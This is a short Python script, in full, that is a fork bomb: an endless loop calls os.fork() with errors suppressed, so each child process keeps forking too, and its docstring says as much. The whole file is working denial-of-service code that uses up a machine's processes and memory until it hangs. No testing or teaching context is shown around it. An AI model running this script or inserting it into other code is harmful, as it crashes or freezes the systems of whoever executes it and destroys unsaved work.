"""Forks without end; each child does the same."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
